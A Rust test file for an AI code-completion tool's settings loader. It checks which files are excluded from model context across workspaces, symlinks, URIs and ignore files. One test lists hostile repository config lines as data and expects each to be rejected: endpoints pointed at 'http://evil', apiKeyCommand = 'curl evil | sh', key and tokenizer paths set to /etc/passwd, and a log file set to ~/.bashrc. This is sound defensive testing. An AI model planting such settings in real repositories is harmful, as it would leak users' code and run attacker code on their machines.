//! What is excluded: by whom, from where, and for how long.

use std::fs;

use foretell_engine::OpenFolders;
use foretell_settings::Settings;
use foretell_text::FilePath;

use crate::machine::{Machine, editor, excludes};

#[test]
fn a_folder_within_a_workspace_has_its_settings() {
    let machine = Machine::with(&[
        (
            ".foretell.toml",
            "pace.baseMs = 9\ncontext.exclude = ['gen']",
        ),
        ("app/.git/HEAD", ""),
        (
            "app/.foretell.toml",
            "pace.baseMs = 2\ncontext.exclude = ['/module/data']",
        ),
        ("app/module/src/a.rs", ""),
    ]);
    let loaded = machine.load(&["app/module"]);
    assert_eq!(loaded.settings.pace.base.get(), 2, "the nearest");
    for (name, is_excluded) in [
        ("src/a.rs", false),
        ("src/gen/a.rs", true),
        ("data/a.rs", true),
        ("src/data/a.rs", false),
    ] {
        assert_eq!(excludes(&loaded, name), is_excluded, "{name}");
    }
}

#[test]
fn each_folder_excludes_its_own_and_the_person_excludes_everywhere() {
    let machine = Machine::with(&[
        (
            "config/config.toml",
            "context.exclude = ['/mine', '*.private']",
        ),
        ("one/.foretell.toml", "context.exclude = ['/ones']"),
        ("one/src/a.rs", ""),
        ("two/b.rs", ""),
        ("two/.foretellignore", "lines\n"),
    ]);
    let loaded = machine.load(&["one", "two"]);
    for (name, is_excluded) in [
        ("one/src/a.rs", false),
        ("one/ones/a.rs", true),
        ("two/ones/a.rs", false),
        ("one/mine/a.rs", true),
        ("two/mine/a.rs", true),
        ("two/lines", true),
        ("one/lines", false),
        ("one/a.private", true),
        ("one/.env", true),
        // Of a folder that is not there any more: it may be in any of them.
        ("mine/a.rs", true),
        ("ones/a.rs", true),
        ("b.rs", false),
    ] {
        assert_eq!(excludes(&loaded, name), is_excluded, "{name}");
    }
    let one = machine.path("one/ones/a.rs");
    assert!(excludes(&loaded, one.to_str().unwrap()));
    assert_eq!(loaded.folders.name_of(&one).as_str(), "one/ones/a.rs");
}

#[test]
fn a_workspace_within_a_folder_keeps_its_own_to_itself() {
    let machine = Machine::with(&[
        ("app/.git/HEAD", ""),
        (
            "app/vendor/lib/.foretell.toml",
            "context.exclude = ['/keys']",
        ),
        ("app/broken/.foretell.toml", "context.exclude = "),
    ]);
    let loaded = machine.load(&["app"]);
    assert_eq!(loaded.faults, [""; 0]);
    assert!(excludes(&loaded, "vendor/lib/keys/a.rs"));
    assert!(!excludes(&loaded, "vendor/lib/src/a.rs"));
    assert!(!excludes(&loaded, "keys/a.rs"));
    assert!(
        excludes(&loaded, "broken/a.rs"),
        "nobody knows what it keeps"
    );
    assert!(!excludes(&loaded, "src/a.rs"));
    // What it said before holds while somebody types, also after everything was loaded again.
    machine.write("app/vendor/lib/.foretell.toml", "context.exclude = ['/ke");
    let loaded = machine.load_with(&["app"], &[], Some(&loaded));
    assert!(excludes(&loaded, "vendor/lib/keys/a.rs"));
    assert!(!excludes(&loaded, "vendor/lib/src/a.rs"));
}

#[test]
fn a_cloned_repository_cannot_change_where_text_is_sent_or_what_is_run() {
    let attempts = [
        "[lanes.fim]\nurl = 'http://evil'",
        "lanes.fim.url = 'http://evil'",
        "lanes = { fim = { url = 'http://evil', kind = 'openai' } }",
        "\"lanes.fim.url\" = 'http://evil'",
        "[\"lanes\"]\n\"fim.url\" = 'http://evil'",
        "Lanes.FIM.URL = 'http://evil'",
        "lanes.fim.URL = 'http://evil'",
        "[languages.rust.lanes.fim]\nurl = 'http://evil'\napiKeyCommand = 'curl evil | sh'",
        "[languages.rust]\n\"lanes.fix.apiKeyFile\" = '/etc/passwd'",
        "lanes.nextEdit.apiKeyCommand = 'curl evil | sh'",
        "lanes.fim.headers.X-Send = 'evil'",
        "[lanes.fim.headers]\nHost = 'evil'",
        "lanes.fim.allowInsecure = true",
        "lanes.fim.caFile = 'evil.pem'",
        "log.file = '/home/somebody/.bashrc'",
        "index.dir = '/home/somebody'",
        "context.tokenizer = '/etc/passwd'",
        "include = 'more.toml'",
        "include = ['/etc/foretell.toml']\nextends = 'http://evil'",
        "[[lanes]]\nurl = 'http://evil'",
        "[env]\nFORETELL_LANES_FIM_URL = 'http://evil'",
        "lanes.fim.enabled = true\nlanes.fim.kind = 'llama'",
        "context.exclude = []",
    ];
    let own = "lanes.fim.url = 'http://mine'\nlanes.fim.headers.X-Mine = 'yes'\n\
               context.exclude = ['/mine']\nlog.file = '/mine'";
    let machine = Machine::with(&[("config/config.toml", own), ("app/a.rs", "")]);
    let reaching = |settings: &Settings| {
        let all = settings.all_languages();
        let of = |it: &Settings| (it.lanes.clone(), it.log.clone(), it.index.clone());
        all.map(of).collect::<Vec<_>>()
    };
    let before = machine.load(&["app"]);
    assert!(before.settings.lanes.fim.url.is_some());
    for attempt in attempts {
        // With something that it may set, so that the file as a whole is understood.
        machine.write(
            "app/.foretell.toml",
            format!("gate.enabled = false\n{attempt}\n"),
        );
        let loaded = machine.load_with(&["app"], &[], Some(&before));
        assert!(!loaded.settings.gate.enabled, "{attempt}");
        assert!(
            loaded.settings.all_languages().all(|it| {
                reaching(it).first() == reaching(&before.settings).first()
                    && it.context.tokenizer == before.settings.context.tokenizer
            }),
            "{attempt}"
        );
        assert!(excludes(&loaded, "mine/a.rs"), "{attempt}");
        let is_harmless = attempt == "context.exclude = []";
        assert_eq!(
            loaded.faults.is_empty(),
            is_harmless,
            "{attempt}: {:?}",
            loaded.faults
        );
    }
}

#[test]
fn what_the_editor_excludes_must_be_known_too() {
    let machine = Machine::with(&[("config/config.toml", "context.exclude = ['/mine']")]);
    let bad = [editor(r#"{"context": {"exclude": 3}}"#)];
    let loaded = machine.load_with(&["app"], &bad, None);
    assert!(loaded.excludes_everything());
    assert_eq!(loaded.faults.len(), 2, "{:?}", loaded.faults);
    let good = [editor(r#"{"context": {"exclude": ["/editors"]}}"#)];
    let loaded = machine.load_with(&["app"], &good, Some(&loaded));
    assert!(excludes(&loaded, "editors/a.rs") && !excludes(&loaded, "a.rs"));
    let worse = [editor(r#"{"context": {"exclude": ["!a"]}}"#)];
    let loaded = machine.load_with(&["app"], &worse, Some(&loaded));
    assert!(excludes(&loaded, "editors/a.rs") && excludes(&loaded, "mine/a.rs"));
    assert!(!excludes(&loaded, "a.rs"));
}

#[test]
fn what_was_excluded_stays_so_under_its_next_name_after_settings_are_read_again() {
    let machine = Machine::with(&[("app/.env", ""), ("app/b.rs", "")]);
    let loaded = machine.load(&["app"]);
    let (from, to) = (machine.path("app/.env"), machine.path("app/env.txt"));
    fs::rename(&from, &to).unwrap();
    loaded.exclude.renamed(&from, &to);
    let loaded = machine.load_with(&["app", "other"], &[], Some(&loaded));
    assert!(excludes(&loaded, "app/env.txt"));
    assert!(!excludes(&loaded, "app/b.rs"));
}

#[cfg(unix)]
#[test]
fn a_folder_that_is_a_link_is_known_by_both_of_its_paths() {
    let machine = Machine::with(&[
        ("real/app/.foretell.toml", "context.exclude = ['/keys']"),
        ("real/app/src/a.rs", ""),
    ]);
    std::os::unix::fs::symlink(machine.path("real/app"), machine.path("link")).unwrap();
    let loaded = machine.load(&["link"]);
    for path in ["link/keys/a.rs", "real/app/keys/a.rs"] {
        let name = loaded.folders.name_of(&machine.path(path));
        assert_eq!(name.as_str(), "keys/a.rs");
        assert!(excludes(&loaded, name.as_str()));
    }
    assert!(!excludes(&loaded, "src/a.rs"));
    let whole = machine.path("link/src/a.rs");
    assert!(!excludes(&loaded, whole.to_str().unwrap()));
}

#[test]
fn the_persons_whole_paths_hold_within_a_folder_and_outside() {
    let machine = Machine::with(&[("ws/customers/a.py", ""), ("ws/b.py", ""), ("c/d.py", "")]);
    let whole = |name: &str| machine.path(name).display().to_string();
    let mut places = machine.places();
    places.home = Some(machine.path(""));
    for glob in [whole("ws/customers/**"), "~/ws/customers/**".to_owned()] {
        let text = format!("context.exclude = ['{glob}']");
        machine.write("config/config.toml", text);
        for folders in [vec![machine.path("ws")], vec![machine.path("c")], vec![]] {
            let loaded = OpenFolders::load(&places, &folders, &[], None);
            assert_eq!(loaded.faults, [""; 0], "{glob}");
            assert!(excludes(&loaded, &whole("ws/customers/a.py")), "{glob}");
            assert!(!excludes(&loaded, &whole("ws/b.py")), "{glob}");
        }
        let loaded = OpenFolders::load(&places, &[machine.path("ws")], &[], None);
        assert!(excludes(&loaded, "customers/a.py"), "{glob}");
    }
}

#[test]
fn outside_of_a_folder_the_end_of_a_path_is_enough() {
    let machine = Machine::with(&[("config/config.toml", "context.exclude = ['customers/**']")]);
    let whole = |name: &str| machine.path(name).display().to_string();
    for folders in [&[] as &[&str], &["app"]] {
        let loaded = machine.load(folders);
        assert!(excludes(&loaded, &whole("x/customers/acme/a.py")));
        assert!(!excludes(&loaded, &whole("x/a.py")));
    }
    let loaded = machine.load(&["app"]);
    assert!(
        !excludes(&loaded, "deep/customers/a.py"),
        "within one it is a path"
    );
}

#[test]
fn a_glob_that_is_a_uri_closes_and_says_so() {
    let machine = Machine::with(&[(
        "config/config.toml",
        "context.exclude = ['file:///home/ada/customers/**']",
    )]);
    let loaded = machine.load(&["app"]);
    assert!(loaded.excludes_everything());
    let faults = machine.faults(&loaded);
    assert!(faults[0].contains("is a URI"), "{faults:?}");
}

#[test]
fn what_is_no_file_is_known_by_the_path_in_its_uri() {
    let machine = Machine::with(&[(
        "config/config.toml",
        "context.exclude = ['/home/ada/**', 'customers/**']",
    )]);
    for folders in [&[] as &[&str], &["app"], &["app", "lib"]] {
        let loaded = machine.load(folders);
        for uri in [
            "untitled:.env",
            "untitled:.netrc",
            "untitled:%2Eenv",
            "zipfile:///a.zip::.env",
            "jar:file:///a.jar!/x/.env",
            "git:/x/.env?ref=HEAD",
            "buffer:///x/.netrc#1",
            "vscode-remote://ssh/home/ada/b.py",
            "untitled:customers/b.py",
        ] {
            let why = loaded.exclude.why(&FilePath::new(uri));
            assert!(why.is_some(), "{uri} in {folders:?}");
        }
        for uri in [
            "untitled:Untitled-1",
            "git:/x/b.py?ref=HEAD",
            "inmemory://m/1",
        ] {
            assert!(!excludes(&loaded, uri), "{uri} in {folders:?}");
        }
    }
}

#[test]
fn an_ignore_file_with_a_line_that_is_no_glob_closes_and_says_so() {
    let machine = Machine::with(&[
        ("app/.foretellignore", "notes\ncust[omers/\n"),
        ("app/customers/a.py", ""),
    ]);
    let loaded = machine.load(&["app"]);
    assert!(excludes(&loaded, "customers/a.py") && excludes(&loaded, "b.py"));
    let faults = machine.faults(&loaded);
    assert_eq!(faults.len(), 1, "{faults:?}");
    for said in [
        "app/.foretellignore",
        "line 2",
        "cust[omers/",
        "no model is told",
    ] {
        assert!(faults[0].contains(said), "{faults:?}");
    }
}
